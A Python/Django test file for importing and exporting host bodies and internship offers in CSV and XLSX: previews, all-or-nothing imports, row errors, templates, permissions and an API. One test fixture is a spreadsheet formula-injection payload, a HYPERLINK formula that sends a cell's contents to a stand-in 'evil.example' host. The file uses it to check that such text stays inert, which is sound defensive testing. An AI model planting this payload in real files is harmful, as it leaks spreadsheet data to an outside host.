"""The season's import of host bodies and offers (CSV and XLSX): a preview first, then the import,
all or nothing, every bad row listed with its line and reason; formula-like text stored as text and
exported neutralised; the template and the export share the import's columns."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from lms import roles
from lms.hosts import sheets
from lms.hosts.models import HostBody, HostImport, InternshipOffer
from lms.hosts.services import hosts_import
from tests.factories import HostBodyFactory, InternshipOfferFactory, SeasonFactory, host_person, user_with_role

pytestmark = pytest.mark.django_db

HEADER = [
    "Орган",
    "Вид",
    "Регион",
    "Адрес",
    "Телефон",
    "E-mail",
    "Сайт",
    "Стажировка",
    "Места",
    "Начало",
    "Окончание",
    "Уровни",
    "PRO из других регионов",
    "Работа",
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'


@pytest.fixture
def staff():
    return user_with_role(roles.STAFF)


@pytest.fixture
def season():
    return SeasonFactory()


def row(season, host="Правительство Калужской области", kind="РОИВ", region="Калужская область", **cells) -> list:
    starts = season.internships_starts_on
    values = {
        "address": "",
        "phone": "",
        "email": "",
        "website": "",
        "title": "Министерство экономики",
        "seats": "2",
        "starts": starts.strftime("%d.%m.%Y"),
        "ends": (starts + timedelta(days=20)).strftime("%d.%m.%Y"),
        "levels": "Начинающие, PRO",
        "other": "нет",
        "work": "Анализ региональной экономики.",
    } | cells
    return [host, kind, region, *values.values()]


def good_rows(season) -> list[list]:
    starts = season.internships_starts_on
    return [
        row(season, address="Калуга, ул. Пролетарская, 111", other="да"),
        row(season, title="Министерство образования", seats="3", levels="Начинающие"),
        row(
            season,
            host="Министерство финансов Российской Федерации",
            kind="ФОИВ",
            region="",
            email="praktika@minfin.example",
            title="Департамент бюджетной политики",
            seats="4",
            levels="Молодые, PRO",
            starts=starts.isoformat(),
            ends=(starts + timedelta(days=30)).isoformat(),
        ),
        row(
            season,
            host="Госкорпорация «Роскосмос»",
            kind="Госкорпорация",
            region="",
            title="",
            seats="",
            levels="",
            work="",
            starts="",
            ends="",
            other="",
        ),
    ]


def csv_bytes(rows: list[list], *, delimiter: str = ",", encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows([HEADER, *rows])
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for values in rows:
        sheet.append(values)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, season, content: bytes, name: str):
    return client.post(
        reverse("hosts:import"), {"season": season.pk, "file": SimpleUploadedFile(name, content)}, follow=False
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_staff_preview_then_import_a_seasons_file(client, staff, season, fmt):
    content = csv_bytes(good_rows(season)) if fmt == "csv" else xlsx_bytes(good_rows(season))
    client.force_login(staff)
    uploaded = upload(client, season, content, f"hosts.{fmt}")
    assert uploaded.status_code == 302
    preview = client.get(uploaded["Location"]).content.decode()
    # The preview is a dry run: what the file would do, nothing stored yet.
    assert "добавит органов — 3, обновит — 0; добавит стажировок — 3" in preview
    assert not HostBody.objects.exists() and not InternshipOffer.objects.exists()
    upload_id = HostImport.objects.get().pk
    applied = client.post(reverse("hosts:import-apply", args=[upload_id]))
    assert applied.status_code == 302
    kaluga = HostBody.objects.get(name="Правительство Калужской области")
    assert (kaluga.kind, kaluga.region_code, kaluga.address) == ("roiv", "40", "Калуга, ул. Пролетарская, 111")
    assert HostBody.objects.get(name="Госкорпорация «Роскосмос»").kind == "state_corporation"
    offer = InternshipOffer.objects.get(title="Министерство экономики")
    assert (offer.season, offer.seats, offer.levels, offer.pro_other_regions, offer.days) == (
        season,
        2,
        ["beginner", "pro"],
        True,
        21,
    )
    assert InternshipOffer.objects.get(title="Департамент бюджетной политики").days == 31
    assert HostImport.objects.get().summary == {
        "hosts_created": 3,
        "hosts_updated": 0,
        "offers_created": 3,
        "offers_updated": 0,
    }
    # Once only.
    again = client.post(reverse("hosts:import-apply", args=[upload_id]), follow=True)
    assert "уже импортирован" in again.content.decode()
    assert InternshipOffer.objects.count() == 3


def test_a_second_import_updates_what_the_first_made(staff, season):
    hosts_import(season=season, content=csv_bytes(good_rows(season)), actor=staff, dry_run=False)
    changed = good_rows(season)
    changed[1][8] = "5"  # seats of «Министерство образования»
    report = hosts_import(season=season, content=csv_bytes(changed), actor=staff, dry_run=False)
    assert report.applied and report.summary["offers_created"] == 0 and report.summary["offers_updated"] == 3
    assert InternshipOffer.objects.get(title="Министерство образования").seats == 5
    assert HostBody.objects.count() == 3 and InternshipOffer.objects.count() == 3


def test_every_bad_row_is_listed_and_nothing_is_imported(client, staff, season):
    starts = season.internships_starts_on
    rows = [
        *good_rows(season),
        row(season, kind="Мэрия", title="Отдел 1"),  # line 6: an unknown kind
        row(season, host="Правительство Атлантиды", region="Атлантида"),  # line 7: no such region
        row(season, title="Короткая", ends=(starts + timedelta(days=6)).strftime("%d.%m.%Y")),  # 8: a week
        row(season, title="Без мест", seats="0"),  # 9
        row(
            season, host="Министерство финансов Российской Федерации", kind="ФОИВ", region="", title="Чужие", other="да"
        ),  # 10: a FOIV's offer for PRO from other regions
        row(season, title="Министерство экономики"),  # 11: the same offer as line 2
        row(season, host="", title="Безымянная"),  # 12: no body
        row(season, title="Плохая дата", starts="31.02.2026"),  # 13
        row(
            season, host="Министерство финансов Российской Федерации", kind="РОИВ", region="77", title="Другой вид"
        ),  # 14
    ]
    report = hosts_import(season=season, content=csv_bytes(rows), actor=staff, dry_run=False)
    assert not report.applied
    reasons = {error.line: error.reason for error in report.errors}
    assert sorted(reasons) == [6, 7, 8, 9, 10, 11, 12, 13, 14]
    assert "Мэрия" in reasons[6] and reasons[6].startswith("Вид:")
    assert "Атлантида" in reasons[7]
    assert "от двух недель до месяца" in reasons[8]
    assert reasons[9].startswith("Места:")
    assert "только стажировка в РОИВ" in reasons[10]
    assert "строке 2" in reasons[11]
    assert "название органа" in reasons[12]
    assert "31.02.2026" in reasons[13]
    assert "строкой 4" in reasons[14]
    assert not HostBody.objects.exists() and not InternshipOffer.objects.exists()

    # The page lists them too, and offers no import.
    client.force_login(staff)
    uploaded = upload(client, season, csv_bytes(rows), "bad.csv")
    preview = client.get(uploaded["Location"]).content.decode()
    assert "9 строк с ошибками: ничего не будет импортировано" in preview
    assert "Строка 8: " in preview and "Строка 14: " in preview
    assert reverse("hosts:import-apply", args=[HostImport.objects.get().pk]) not in preview
    refused = client.post(reverse("hosts:import-apply", args=[HostImport.objects.get().pk]))
    assert refused.status_code == 302 and not HostBody.objects.exists()
    assert HostImport.objects.get().applied_at is None


def test_an_excel_csv_in_windows_1251_with_semicolons_is_read(staff, season):
    content = csv_bytes(good_rows(season), delimiter=";", encoding="cp1251")
    report = hosts_import(season=season, content=content, actor=staff, dry_run=False)
    assert report.applied and not report.errors
    assert HostBody.objects.filter(name="Правительство Калужской области", region_code="40").exists()


def test_a_formula_like_name_is_stored_as_text_and_exported_neutralised(client, staff, season):
    rows = [row(season, host=FORMULA, kind="ФОИВ", region="", title="=1+2", levels="PRO")]
    # In an XLSX written by a spreadsheet program this is a formula cell: read as its text, never run.
    report = hosts_import(season=season, content=xlsx_bytes(rows), actor=staff, dry_run=False)
    assert report.applied, report.errors
    host = HostBody.objects.get()
    assert host.name == FORMULA and InternshipOffer.objects.get().title == "=1+2"

    client.force_login(staff)
    exported_csv = client.get(reverse("hosts:offers-export", args=["csv"]), {"season": season.pk})
    assert exported_csv.status_code == 200
    lines = list(csv.reader(io.StringIO(exported_csv.content.decode("utf-8-sig"))))
    assert lines[0] == sheets.header() and lines[0][5] == "Электронная почта"
    assert lines[1][0] == "'" + FORMULA and lines[1][7] == "'=1+2"
    exported_xlsx = client.get(reverse("hosts:offers-export", args=["xlsx"]), {"season": season.pk})
    cell = load_workbook(io.BytesIO(exported_xlsx.content)).active["A2"]
    assert cell.value == FORMULA and cell.data_type == "s"

    # The export imports back unchanged: the protective apostrophe is taken off again.
    again = hosts_import(season=season, content=exported_csv.content, actor=staff, dry_run=False)
    assert again.applied and again.summary == {
        "hosts_created": 0,
        "hosts_updated": 0,
        "offers_created": 0,
        "offers_updated": 1,
    }
    assert HostBody.objects.get().name == FORMULA and InternshipOffer.objects.get().title == "=1+2"
    again_xlsx = hosts_import(season=season, content=exported_xlsx.content, actor=staff, dry_run=True)
    assert not again_xlsx.errors and again_xlsx.summary["offers_updated"] == 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_template_has_the_import_columns(client, staff, fmt):
    client.force_login(staff)
    response = client.get(reverse("hosts:import-template", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        header = [cell.value for cell in next(load_workbook(io.BytesIO(response.content)).active.iter_rows())]
    assert header == sheets.header() and header[:3] == ["Орган", "Вид", "Регион"]
    assert client.get(reverse("hosts:import-template", args=["pdf"])).status_code == 404


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "файл пуст"),  # Django's own check of an upload
        ("Орган,Рейтинг\nМинфин,5\n".encode(), "Неизвестные столбцы: Рейтинг"),
        ("Вид\nФОИВ\n".encode(), "в том числе «Орган»"),
        ("Орган\n".encode(), "нет строк"),
        (b"PK\x03\x04not really a zip", "Не удаётся прочитать файл XLSX"),
        (b"\x00\x01\x02", "Это не файл CSV или XLSX"),
    ],
)
def test_a_file_that_is_no_table_is_refused_at_the_upload(client, staff, season, content, message):
    client.force_login(staff)
    response = upload(client, season, content, "broken.csv")
    assert response.status_code == 400 and message in response.content.decode()
    assert not HostImport.objects.exists()


def test_an_import_refused_now_is_not_marked_done(client, staff, season):
    """Rows that were good at the preview and are not at the import: nothing stored, the upload may
    be imported again once fixed."""
    client.force_login(staff)
    uploaded = upload(client, season, csv_bytes(good_rows(season)[:1]), "hosts.csv")
    HostBodyFactory(name="Правительство Калужской области", kind="foiv", active=False)
    applied = client.post(reverse("hosts:import-apply", args=[HostImport.objects.get().pk]), follow=True)
    assert "ничего не импортировано" in applied.content.decode()
    assert HostImport.objects.get().applied_at is None and not InternshipOffer.objects.exists()
    assert uploaded.status_code == 302


def test_only_staff_import(client, season):
    host = HostBodyFactory()
    client.force_login(host_person(host))
    assert upload(client, season, csv_bytes(good_rows(season)), "hosts.csv").status_code == 403
    assert client.get(reverse("hosts:import-template", args=["csv"])).status_code == 403
    assert not HostImport.objects.exists()


def test_the_api_imports_all_or_nothing_with_a_dry_run(api_client, staff, season):
    api_client.force_authenticate(staff)
    url = f"/api/v1/seasons/{season.pk}/host-imports/"
    dry = api_client.post(url, {"file": SimpleUploadedFile("h.xlsx", xlsx_bytes(good_rows(season))), "dry_run": True})
    assert dry.status_code == 200 and dry.json()["summary"]["offers_created"] == 3 and not dry.json()["applied"]
    assert not HostBody.objects.exists()
    bad = good_rows(season) + [row(season, title="Без мест", seats="0")]
    refused = api_client.post(url, {"file": SimpleUploadedFile("h.csv", csv_bytes(bad))})
    assert refused.status_code == 400 and refused.json()["rows"][0].startswith("Строка 6: Места:")
    assert not HostBody.objects.exists()
    done = api_client.post(url, {"file": SimpleUploadedFile("h.csv", csv_bytes(good_rows(season)))})
    assert done.status_code == 201 and done.json()["applied"]
    assert InternshipOffer.objects.filter(season=season).count() == 3
    unreadable = api_client.post(url, {"file": SimpleUploadedFile("h.csv", b"")})
    assert unreadable.status_code == 400
    api_client.force_authenticate(host_person(HostBody.objects.first()))
    assert api_client.post(url, {"file": SimpleUploadedFile("h.csv", csv_bytes(good_rows(season)))}).status_code == 403


def test_the_export_lists_bodies_without_an_offer_on_their_own_row(client, staff, season):
    InternshipOfferFactory(season=season, host=HostBodyFactory(name="С предложением"))
    HostBodyFactory(name="Без предложения")
    client.force_login(staff)
    response = client.get(reverse("hosts:offers-export", args=["csv"]), {"season": season.pk})
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert [line[0] for line in lines] == ["С предложением", "Без предложения"]
    assert lines[1][7:] == [""] * 9
